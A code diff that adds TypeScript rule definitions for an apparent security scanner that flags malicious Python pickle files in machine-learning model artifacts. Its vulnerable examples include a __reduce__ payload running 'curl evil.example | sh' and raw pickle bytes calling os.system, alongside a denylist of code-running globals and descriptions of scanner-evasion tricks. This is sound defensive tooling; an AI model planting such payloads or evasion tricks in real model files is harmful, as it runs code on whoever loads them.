@@ -1,0 +1,297 @@
+// Rules for pickle-bearing artifacts (model and data files). One RuleMeta per issue family; the pickle
+// analyser's PickleIssue kinds map onto them in `ruleForIssue`.
+import type { ComplianceMapping, FaqEntry, Reference, RuleMeta } from "../core/types.js";
+import type { PickleIssue, PickleIssueKind } from "./types.js";
+
+const COMPLIANCE: ComplianceMapping[] = [
+  { framework: "OWASP Top 10 2021", control: "A08:2021 Software and Data Integrity Failures" },
+  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
+  { framework: "NIST SP 800-53 Rev. 5", control: "SI-7 Software, Firmware, and Information Integrity" },
+  { framework: "NIST SP 800-218 (SSDF)", control: "PW.4.1 Acquire and maintain well-secured components" },
+  { framework: "PCI DSS 4.0", control: "6.2.4 Software engineering techniques prevent common attacks" },
+];
+
+const REFERENCES: Reference[] = [
+  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
+  { title: "OWASP A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
+  { title: "Python docs: pickle, Restricting Globals", url: "https://docs.python.org/3/library/pickle.html#restricting-globals" },
+  { title: "PyTorch docs: torch.load and weights_only", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
+  { title: "Hugging Face: Pickle scanning", url: "https://huggingface.co/docs/hub/security-pickle" },
+  { title: "safetensors", url: "https://github.com/huggingface/safetensors" },
+];
+
+const SAFE_EXAMPLE = [
+  "# Load tensors only: weights_only refuses every global outside PyTorch's allowlist",
+  'state = torch.load("model.pt", weights_only=True)',
+  "",
+  "# Better: a format that cannot run code",
+  "from safetensors.torch import load_file",
+  'state = load_file("model.safetensors")',
+].join("\n");
+
+const COMMON_FAQ: FaqEntry[] = [
+  {
+    question: "Does Pathfinder load or unpickle the file?",
+    answer:
+      "No. It reads the bytes and interprets pickle opcodes symbolically; nothing is imported or executed, and tensor data is skipped without being read.",
+  },
+  {
+    question: "The file is named .pt/.bin/.npy; why is it treated as a zip, tar or pickle?",
+    answer:
+      "Loaders decide by content, not by name, so Pathfinder does too. The extension is only a hint for which files to look at.",
+  },
+];
+
+const SCOPE =
+  "Raw pickles (protocols 0-5, stacked streams), zip archives read through our own central-directory parser " +
+  "(zip64, prepended data, missing end record, name mismatches, every member that parses as a pickle), PyTorch " +
+  "zip checkpoints (`*/data.pkl`, tensor members skipped), legacy PyTorch stacked and tar checkpoints, .npy/.npz " +
+  "object arrays, joblib files (zlib/gzip/bz2/xz/lzma compression, inline array bytes skipped by declared size, " +
+  "object-array pickles), and gzip/bz2/xz/lzma-wrapped pickles. Decompression is bounded by " +
+  "`maxDecompressedBytes`. 7z, RAR, zstd and LZ4 archives are reported as uninspectable.";
+
+function artifactRule(
+  meta: Pick<RuleMeta, "id" | "name" | "severity" | "confidence" | "precision" | "tags" | "similar"> & {
+    docs: Omit<RuleMeta["docs"], "references" | "faq" | "detectionScope" | "safeExample"> & {
+      faq?: FaqEntry[];
+      safeExample?: string;
+    };
+  },
+): RuleMeta {
+  return {
+    id: meta.id,
+    name: meta.name,
+    language: "artifact",
+    severity: meta.severity,
+    confidence: meta.confidence,
+    precision: meta.precision,
+    cwe: ["CWE-502"],
+    owasp: ["A08:2021"],
+    compliance: COMPLIANCE,
+    tags: ["pickle", "deserialization", "artifact", "ml", "supply-chain", ...meta.tags],
+    bundles: ["artifacts"],
+    banditIds: [],
+    similar: meta.similar,
+    docs: {
+      ...meta.docs,
+      safeExample: meta.docs.safeExample ?? SAFE_EXAMPLE,
+      detectionScope: SCOPE,
+      references: REFERENCES,
+      faq: [...(meta.docs.faq ?? []), ...COMMON_FAQ],
+    },
+  };
+}
+
+export const PICKLE_ARTIFACT_DANGEROUS_CALL = artifactRule({
+  id: "PICKLE-ARTIFACT-001",
+  name: "Pickle Artifact Calls a Dangerous Global",
+  severity: "critical",
+  confidence: "high",
+  precision: "very-high",
+  tags: ["code-execution"],
+  similar: ["PICKLE-ARTIFACT-002", "PICKLE-ARTIFACT-003"],
+  docs: {
+    summary: "A pickle inside this file calls a function that can run code, spawn processes or touch files when it is loaded.",
+    description:
+      "Unpickling executes the opcodes in the file. `REDUCE`, `NEWOBJ`, `OBJ`, `INST` and `BUILD` call whatever global the " +
+      "pickle imported, with arguments the pickle chose. This file calls a global on the denylist (for example " +
+      "`os.system`, `subprocess.Popen`, `builtins.exec`, `builtins.eval`, `runpy._run_code`), so loading it with " +
+      "`pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `np.load(allow_pickle=True)` runs that call.",
+    securityImplications:
+      "Arbitrary code execution with the privileges of whoever loads the file: credential theft, lateral movement from " +
+      "training or inference hosts, tampered models. This is the classic malicious-model supply-chain attack.",
+    howToFix:
+      "Do not load the file. Obtain the artifact from a trusted source and verify it (hash or signature). Convert models " +
+      "to safetensors or ONNX, load PyTorch checkpoints with `weights_only=True`, and keep `allow_pickle=False` for NumPy.",
+    fixHint: "Do not load this file; re-export it as safetensors, or load with torch.load(..., weights_only=True).",
+    vulnerableExample: [
+      "class Payload:",
+      "    def __reduce__(self):",
+      '        return (os.system, ("curl evil.example | sh",))',
+      "",
+      'torch.save({"model": Payload()}, "model.pt")   # loading model.pt runs the command',
+    ].join("\n"),
+    faq: [
+      {
+        question: "Could the call be harmless?",
+        answer: "Only if the arguments are; the policy flags the capability. A legitimate model never needs to call os.system or exec.",
+      },
+    ],
+  },
+});
+
+export const PICKLE_ARTIFACT_DANGEROUS_IMPORT = artifactRule({
+  id: "PICKLE-ARTIFACT-002",
+  name: "Pickle Artifact Imports a Dangerous Global",
+  severity: "high",
+  confidence: "medium",
+  precision: "high",
+  tags: ["code-execution"],
+  similar: ["PICKLE-ARTIFACT-001"],
+  docs: {
+    summary: "A pickle inside this file imports a dangerous global without visibly calling it.",
+    description:
+      "`GLOBAL`/`STACK_GLOBAL` import any attribute of any module while loading. A denylisted global (for example " +
+      "`os.system` or `builtins.getattr`) is referenced here although no direct call was seen; it may be called " +
+      "indirectly (through a memo, a container or a later `BUILD`), which symbolic analysis cannot always follow.",
+    securityImplications:
+      "Importing a module can itself run code (module import side effects), and an imported callable is one opcode away " +
+      "from being invoked. Treat the file as untrusted.",
+    howToFix:
+      "Do not load the file from untrusted sources. Re-create the artifact from trusted code, or load it with a restricted " +
+      "unpickler (`find_class` allowlist) or `torch.load(weights_only=True)`.",
+    fixHint: "Treat the file as untrusted; load it only with an allowlisting unpickler.",
+    vulnerableExample: ["# protocol 0 pickle that imports os.system", "cos\\nsystem\\n(S'id'\\ntR."].join("\n"),
+  },
+});
+
+export const PICKLE_ARTIFACT_DYNAMIC_GLOBAL = artifactRule({
+  id: "PICKLE-ARTIFACT-003",
+  name: "Pickle Artifact Uses an Unresolvable or Self-Modifying Global",
+  severity: "critical",
+  confidence: "medium",
+  precision: "high",
+  tags: ["obfuscation", "code-execution"],
+  similar: ["PICKLE-ARTIFACT-001"],
+  docs: {
+    summary: "A pickle builds the name of the global it imports at load time, uses the copyreg extension registry, or rewrites a module.",
+    description:
+      "`STACK_GLOBAL` with operands that are not constant strings (for example the result of a call), `EXT1/EXT2/EXT4` " +
+      "codes resolved through the process's copyreg registry, and `BUILD` applied to a module or function object " +
+      "(overwriting its attributes) all hide what will really run. Scanners that match names cannot see through them, " +
+      "which is why attackers use them.",
+    securityImplications:
+      "The real target cannot be known statically; legitimate serializers never produce these shapes in model files, so " +
+      "they indicate an attempt to evade scanning and execute code.",
+    howToFix: "Do not load the file. Regenerate the artifact from trusted code and store weights in safetensors.",
+    fixHint: "Obfuscated pickle: do not load it.",
+    vulnerableExample: [
+      "# STACK_GLOBAL whose module name is computed by a call",
+      "\\x80\\x04 ... builtins getattr ... REDUCE ... STACK_GLOBAL ... REDUCE",
+    ].join("\n"),
+  },
+});
+
+export const PICKLE_ARTIFACT_UNKNOWN_GLOBAL = artifactRule({
+  id: "PICKLE-ARTIFACT-004",
+  name: "Pickle Artifact References a Global Outside the Allowlist",
+  severity: "medium",
+  confidence: "medium",
+  precision: "medium",
+  tags: ["allowlist", "policy"],
+  similar: ["PICKLE-ARTIFACT-002"],
+  docs: {
+    summary: "In allowlist mode, a pickle references a global that is neither built in to the allowlist nor allowed by configuration.",
+    description:
+      "The allowlist policy accepts only globals a tensor/array checkpoint needs (PyTorch's weights-only set, NumPy array " +
+      "reconstruction, plain containers) plus `--pickle-allow` entries. Anything else is reported so that a reviewer " +
+      "decides whether it is expected.",
+    securityImplications:
+      "An unexpected class can run code through its `__reduce__`, `__setstate__` or constructor. Unknown is not proven " +
+      "malicious, but it widens what loading the file can do.",
+    howToFix:
+      "If the class is expected and trusted, allow it (`--pickle-allow module.Name`, or `module.*`). Otherwise remove it " +
+      "from the artifact, e.g. save only a `state_dict` of tensors.",
+    fixHint: "Review the global; allow it with --pickle-allow if trusted, or save only tensors.",
+    vulnerableExample: ['torch.save(MyModel(), "model.pt")   # pickles mypackage.models.MyModel'].join("\n"),
+    safeExample: ['torch.save(model.state_dict(), "model.pt")   # tensors and OrderedDict only'].join("\n"),
+  },
+});
+
+export const PICKLE_ARTIFACT_MALFORMED = artifactRule({
+  id: "PICKLE-ARTIFACT-005",
+  name: "Malformed Pickle After Importing Globals",
+  severity: "high",
+  confidence: "medium",
+  precision: "medium",
+  tags: ["evasion"],
+  similar: ["PICKLE-ARTIFACT-006"],
+  docs: {
+    summary: "A pickle imports globals and then breaks (bad opcode, truncated data, stack misuse).",
+    description:
+      "Python's unpickler executes opcodes as it reads them, so everything before the error has already run when the " +
+      "load fails. Some scanners give up on a parse error and report the file as clean; attackers exploit that by " +
+      "appending garbage after the payload (the 'broken pickle' trick).",
+    securityImplications: "The payload before the break executes on load even though the load ultimately raises an exception.",
+    howToFix: "Do not load the file. A legitimate serializer never writes a malformed stream.",
+    fixHint: "Broken pickle with globals: do not load it.",
+    vulnerableExample: ["cos\\nsystem\\n(S'id'\\ntR\\xff\\xff  # payload, then invalid opcodes"].join("\n"),
+  },
+});
+
+export const PICKLE_ARTIFACT_CONTAINER_TRICK = artifactRule({
+  id: "PICKLE-ARTIFACT-006",
+  name: "Artifact Container Is Inconsistent",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  tags: ["evasion", "zip"],
+  similar: ["PICKLE-ARTIFACT-005"],
+  docs: {
+    summary: "The archive's own metadata disagrees with itself (zip central vs local names or methods, duplicate member names).",
+    description:
+      "Zip readers differ in which header they trust: some use the central directory, some stream local headers, and " +
+      "duplicate names resolve to the first or the last entry. A member named `data.pkl` in one place and something " +
+      "harmless in another lets a malicious pickle pass a scanner that reads one view while the loader reads the other.",
+    securityImplications:
+      "A benign-looking archive can carry a payload that only some readers see; it indicates deliberate scanner evasion.",
+    howToFix: "Reject the file and re-create the archive with a standard tool (e.g. `torch.save`, `zipfile`).",
+    fixHint: "Inconsistent archive metadata: re-create the archive from trusted sources.",
+    vulnerableExample: [
+      "# central directory: archive/data.pkl   local header: archive/version",
+      "# both point at a pickle that calls os.system",
+    ].join("\n"),
+  },
+});
+
+export const PICKLE_ARTIFACT_UNINSPECTABLE = artifactRule({
+  id: "PICKLE-ARTIFACT-007",
+  name: "Artifact Archive Cannot Be Inspected",
+  severity: "medium",
+  confidence: "low",
+  precision: "low",
+  tags: ["coverage"],
+  similar: [],
+  docs: {
+    summary: "The file is an archive format (7z, RAR, zstd, LZ4, or an unsupported zip method) that Pathfinder cannot look inside.",
+    description:
+      "Models are sometimes shipped inside archives that are extracted before loading. Pathfinder reads zip, tar, gzip, " +
+      "bzip2, xz and lzma itself; for other formats it cannot tell whether a pickle is inside, so it says so instead of " +
+      "reporting the file as clean.",
+    securityImplications: "Contents are unverified: a malicious pickle inside would not be detected.",
+    howToFix: "Extract the archive and scan the extracted files, or ship the artifact as zip/tar or safetensors.",
+    fixHint: "Extract the archive and scan its contents.",
+    vulnerableExample: ["model.7z  ->  model.pkl (not inspected)"].join("\n"),
+    safeExample: ["pathfinder scan extracted/   # scan the unpacked files instead"].join("\n"),
+  },
+});
+
+export const ARTIFACT_RULES: RuleMeta[] = [
+  PICKLE_ARTIFACT_DANGEROUS_CALL,
+  PICKLE_ARTIFACT_DANGEROUS_IMPORT,
+  PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
+  PICKLE_ARTIFACT_MALFORMED,
+  PICKLE_ARTIFACT_CONTAINER_TRICK,
+  PICKLE_ARTIFACT_UNINSPECTABLE,
+];
+
+const RULE_BY_KIND: Record<Exclude<PickleIssueKind, "nested-pickle">, RuleMeta> = {
+  "dangerous-call": PICKLE_ARTIFACT_DANGEROUS_CALL,
+  "dangerous-import": PICKLE_ARTIFACT_DANGEROUS_IMPORT,
+  "dynamic-global": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "extension-code": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "module-mutation": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "unknown-global": PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
+  malformed: PICKLE_ARTIFACT_MALFORMED,
+  "container-mismatch": PICKLE_ARTIFACT_CONTAINER_TRICK,
+  uninspectable: PICKLE_ARTIFACT_UNINSPECTABLE,
+};
+
+/** The rule an analyser issue belongs to. A nested-pickle summary follows its severity. */
+export function ruleForIssue(issue: Pick<PickleIssue, "kind" | "severity">): RuleMeta {
+  if (issue.kind !== "nested-pickle") return RULE_BY_KIND[issue.kind];
+  if (issue.severity === "critical") return PICKLE_ARTIFACT_DANGEROUS_CALL;
+  if (issue.severity === "high") return PICKLE_ARTIFACT_DANGEROUS_IMPORT;
+  return PICKLE_ARTIFACT_UNKNOWN_GLOBAL;
+}
